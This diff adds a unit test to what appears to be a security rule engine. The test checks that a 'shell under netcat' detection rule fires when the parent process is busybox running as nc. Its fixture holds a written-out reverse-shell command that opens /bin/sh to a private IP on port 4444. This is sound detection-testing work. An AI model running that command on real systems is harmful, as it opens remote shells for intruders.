@@ -71,6 +71,34 @@ class ParentConditionsTest {
     }
 
     @Test
+    void aParentsAndAncestorsProgramIsSeenWhenCommIsExe() {
+        LoadResult loaded = Fixtures.load("program.yaml", """
+                rules:
+                  - id: shell_under_netcat
+                    description: A shell whose parent or an ancestor is netcat, told by its program.
+                    condition: >-
+                      event.type == "exec" && (proc.parent.program == "nc"
+                          || proc.ancestors.exists(a, a.program == "nc"))
+                    severity: high
+                    tags: [mitre.T1059.004]
+                    output: "{proc.name} under netcat"
+                """);
+        assertEquals(List.of(), loaded.problems());
+        RuleEngine programs = new RuleEngine(loaded.ruleSet());
+        // Debian's static busybox runs nc through /proc/self/exe: its comm is "exe"
+        Map<String, Object> nc = Map.of("pid", 4300L, "name", "exe", "exe", "/bin/busybox", "program", "nc",
+                "cmdline", "nc 172.17.0.5 4444 -e /bin/sh");
+        Map<String, Object> underNc = Map.of("kind", "event", "type", "exec", "process", Map.of("pid", 4301L,
+                "name", "sh", "exe", "/bin/busybox", "parent", nc, "ancestors", List.of(nc)));
+        assertEquals(List.of("shell_under_netcat"), Fixtures.firedIds(programs, underNc));
+        // Without parent facts (the /proc scan): the parent's program is "", nothing fails
+        Map<String, Object> bare = Map.of("kind", "event", "type", "exec", "process", Map.of("pid", 4302L,
+                "name", "sh"));
+        assertEquals(List.of(), Fixtures.firedIds(programs, bare));
+        assertEquals(0, programs.stats().values().stream().mapToLong(RuleStats::errors).sum());
+    }
+
+    @Test
     void anExecWithoutParentFactsMatchesNeitherAndFailsNothing() {
         // Seen by the /proc scan, or recorded before parents were recorded: the defaults hold.
         assertEquals(List.of(), Fixtures.firedIds(engine, Fixtures.event("exec_shell_in_container")));
